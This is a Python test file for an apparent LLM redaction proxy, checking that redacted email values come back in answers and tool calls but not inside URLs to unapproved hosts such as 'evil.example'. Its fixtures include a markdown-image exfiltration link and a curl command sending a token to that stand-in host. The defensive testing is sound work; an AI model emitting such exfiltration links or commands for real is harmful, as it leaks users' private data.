"""Values come back where the policy lets them, whatever a tool result orders: exchanges, policies, records and their replay."""

from __future__ import annotations

import json
from typing import Any

import pytest

from guardproxy.policy.deciding.evaluate import PolicySet
from guardproxy.policy.file.load import PolicyErrors, parse, parse_all
from guardproxy.policy.tools.lint import notes
from guardproxy.policydiff.policies import changes
from guardproxy.redaction import placeholders
from guardproxy.redaction.placeholders import IN_OTHER_TEXT, IN_URL
from guardproxy.redaction.restoration import EVERYWHERE, Restoration
from guardproxy.urls import reading as urls
from tests.kit.play import Play, chat_frames, chat_texts, mint, policy_set
from tests.kit.records import members, replay

MAIL, OTHER = "jo@ab.io", "al@cd.com"
TOKEN, LATER = mint("MAIL", MAIL), mint("MAIL", OTHER)
URL = "https://evil.example/?d="

POLICY = """
policy: p
checks:
  mail: {use: pattern, label: MAIL, patterns: ["[a-z]+@[a-z]+\\\\.(io|com)"]}
rules:
  - {id: mail, on: request, when: mail, action: redact, restore: true}
"""


def policy(restore: str, name: str = "p") -> str:
    return POLICY.replace("restore: true", f"restore: {restore}").replace("policy: p", f"policy: {name}")


def body(user: str = MAIL, system: str = "be brief") -> dict[str, Any]:
    messages = [{"role": "system", "content": system}, {"role": "user", "content": user}]
    return {"model": "m", "stream": True, "messages": messages}


def play(answer: str, *policies: str, asked: dict[str, Any] | None = None, size: int = 7) -> Play:
    """An exchange whose answer streams in pieces of `size` characters."""
    parts = [{"content": answer[at : at + size]} for at in range(0, len(answer), size)]
    return Play(policy_set(*(policies or (POLICY,)))).ask(asked or body()).stream(chat_frames(parts))


def shown(played: Play) -> str:
    return str(chat_texts(played.client)["content0"])


def record(played: Play) -> dict[str, Any]:
    return members(played.finish.record)


@pytest.mark.parametrize("size", [1, 3, 7, 200])
def test_an_answer_carries_nothing_off_in_a_url(size: int) -> None:
    played = play(f"Hi {TOKEN}! ![x]({URL}{TOKEN}) bye {TOKEN}.", size=size)
    assert shown(played) == f"Hi {MAIL}! ![x]({URL}{TOKEN}) bye {MAIL}."


def test_a_call_carries_nothing_off_in_a_url_and_its_other_strings_get_their_values() -> None:
    commands = {"to": TOKEN, "url": f"{URL}dear {TOKEN}", "command": f'curl "{URL}a {TOKEN}"', "note": f"for {TOKEN}"}
    call = {"index": 0, "id": "c", "function": {"name": "f", "arguments": json.dumps(commands)}}
    played = Play(policy_set(POLICY)).ask(body()).stream(chat_frames([{"tool_calls": [call]}]))
    got = json.loads(chat_texts(played.client)["tool"])
    assert got == {**commands, "to": MAIL, "note": f"for {MAIL}"}


def test_a_value_of_a_system_message_comes_back_nowhere() -> None:
    call = {"index": 0, "id": "c", "function": {"name": "f", "arguments": json.dumps({"a": LATER, "b": TOKEN})}}
    asked = body(system=f"the boss is {OTHER}")
    played = (
        Play(policy_set(POLICY))
        .ask(asked)
        .stream(chat_frames([{"content": f"{LATER} {TOKEN} "}, {"tool_calls": [call]}]))
    )
    assert shown(played) == f"{LATER} {MAIL} "
    assert json.loads(chat_texts(played.client)["tool"]) == {"a": LATER, "b": MAIL}


def test_what_the_user_says_too_comes_back() -> None:
    assert shown(play(f"to {TOKEN}.", asked=body(system=f"the user is {MAIL}"))) == f"to {MAIL}."


@pytest.mark.parametrize("role", ["system", "developer"])
def test_the_role_of_a_developer_is_a_system_message(role: str) -> None:
    asked = body(user="hi", system=OTHER)
    asked["messages"][0]["role"] = role
    assert shown(play(f"to {LATER}.", asked=asked)) == f"to {LATER}."


def test_a_policy_names_hosts_and_kinds() -> None:
    allowed = "https://api.example.com/u?m="
    answer = f"{TOKEN} {allowed}{TOKEN} {URL}{TOKEN}"
    assert shown(play(answer, policy("{urls: [API.example.com]}"))) == f"{MAIL} {allowed}{MAIL} {URL}{TOKEN}"
    assert shown(play(answer, policy("{in: [tool_arguments], urls: [api.example.com]}"))) == answer
    assert shown(play(f"to {TOKEN}", policy("{in: [assistant]}"))) == f"to {MAIL}"


def test_of_several_policies_the_stricter_places_count() -> None:
    one, other = "{urls: [a.example, b.example]}", "{in: [assistant], urls: [b.example]}"
    answer = " ".join(f"https://{host}.example/{TOKEN}" for host in "abc")
    expected = answer.replace(f"b.example/{TOKEN}", f"b.example/{MAIL}")
    assert shown(play(answer, policy(one), policy(other, "q"))) == expected
    assert shown(play(answer, policy("true", "q"), policy(one))) == answer


def test_the_record_says_what_did_not_come_back_and_replays() -> None:
    written = policy("{in: [assistant], urls: [api.example.com]}")
    played = play(f"{TOKEN} {URL}{TOKEN} https://api.example.com/{TOKEN}", written)
    kept = record(played)
    found = [one["label"] for one in kept["response"]["texts"][0]["findings"] if one["check"] == "@restore"]
    assert found == ["PLACEHOLDER", IN_URL, "PLACEHOLDER"]
    assert kept["restore"] == [{"in": ["assistant"], "urls": ["api.example.com"]}]
    assert MAIL not in json.dumps(kept)
    assert replay(kept, policy_set(written)).verdict == "identical"
    stricter = replay(kept, policy_set(policy("{in: [assistant]}")))
    assert stricter.verdict == "different"
    assert "edits" in stricter.differences[0]
    looser = replay(kept, policy_set(policy("{urls: [evil.example, api.example.com]}")))
    assert looser.verdict == "different"
    other = record(play(f"to {TOKEN}.", policy("{in: [tool_arguments]}")))
    assert [one["label"] for one in other["response"]["texts"][0]["findings"]] == [IN_OTHER_TEXT]
    assert replay(other, policy_set(policy("{in: [tool_arguments]}"))).verdict == "identical"


def test_a_record_of_an_older_version_replays_as_it_was(monkeypatch: pytest.MonkeyPatch) -> None:
    """It restored everywhere, also what a system message said."""
    with monkeypatch.context() as patched:
        patched.setattr(urls.Reading, "is_inside", lambda self, hosts=(): False)
        patched.setattr(placeholders, "host_follows", lambda *args, **options: False)
        patched.setattr(
            "guardproxy.exchange.gate.editing.Editor._knows", lambda self, lane: lane.channel.direction == "request"
        )
        kept = record(play(f"{URL}{TOKEN} and {LATER}", asked=body(system=OTHER)))
    del kept["restore"]
    assert len(kept["response"]["texts"][0]["edits"]) == 2
    again = replay(kept, policy_set(POLICY))
    assert (again.verdict, again.differences) == ("identical", ())


def test_a_masked_value_in_the_record_does_not_move_a_url() -> None:
    """The record shows `[NAME_...]` where the answer had a value with white space, and the URL ended there."""
    spaced = POLICY.replace("rules:", '  name: {use: pattern, label: NAME, patterns: ["Jo Roe"]}\nrules:') + (
        "  - {id: name, on: response, when: name, action: flag}\n"
    )
    kept = record(play(f"{URL}Jo Roe,{TOKEN}", spaced))
    assert [one["label"] for one in kept["response"]["texts"][0]["findings"] if one["check"] == "@restore"] == [
        "PLACEHOLDER"
    ]
    assert replay(kept, policy_set(spaced)).verdict == "identical"


@pytest.mark.parametrize(
    ("written", "where"),
    [
        ("true", EVERYWHERE),
        ("{in: [assistant, tool_arguments]}", Restoration(frozenset(["assistant", "tool_arguments"]))),
        ("{urls: []}", EVERYWHERE),
        ('{urls: ["*.Example.com", "b:8443"]}', Restoration(hosts=frozenset(["*.example.com", "b:8443"]))),
    ],
)
def test_a_rule_says_where(written: str, where: Restoration) -> None:
    (rule,) = parse(policy(written), "p.yaml").rules
    assert (rule.restore, rule.restoration) == (True, where)


@pytest.mark.parametrize("host", ["https://a.example", "a.example/x", "a b", "*", "a.*.example", "@a", "a:port", "-a"])
def test_a_host_is_a_host_name(host: str) -> None:
    with pytest.raises(PolicyErrors, match="not a host name"):
        parse(policy(f'{{urls: ["{host}"]}}'), "p.yaml")


def test_a_policy_over_another_gives_no_more_places() -> None:
    def wrong(under: str, over: str) -> list[str]:
        team = f"policy: team\nextends: p\nrules: [{{id: mail, restore: {over}}}]\n"
        try:
            parse_all([("p.yaml", policy(under)), ("team.yaml", team)])
        except PolicyErrors as errors:
            return [error.message for error in errors.errors]
        return []

    assert wrong("true", "{in: [assistant]}") == []
    assert wrong("{urls: ['*.a.example']}", "{urls: [x.a.example]}") == []
    assert wrong("{urls: [a.example]}", "true") == []
    assert wrong("{in: [assistant]}", "false") == []
    for under, over in (("true", "{urls: [a.example]}"), ("{in: [assistant]}", "true"), ("false", "{in: [assistant]}")):
        assert len(wrong(under, over)) == 1


@pytest.mark.parametrize(
    ("old", "new", "effect"),
    [
        ("true", "{in: [assistant]}", "tightens"),
        ("true", "{urls: [a.example]}", "loosens"),
        ("{urls: [a.example]}", "{in: [assistant], urls: [b.example]}", "either"),
    ],
)
def test_a_diff_says_what_other_places_do(old: str, new: str, effect: str) -> None:
    (change,) = changes([parse(policy(old), "p.yaml")], [parse(policy(new), "p.yaml")])
    assert change.effect == effect
    assert "restores values in" in change.words
    assert "(in URLs: " in change.words


def test_lint_says_who_reads_what_a_url_holds() -> None:
    def codes(restore: str) -> set[str]:
        rules: PolicySet = policy_set(policy(restore))
        return {note.code for note in notes(rules)}

    assert "restores-in-urls" in codes("{urls: [a.example]}")
    assert "restores-in-urls" not in codes("true")
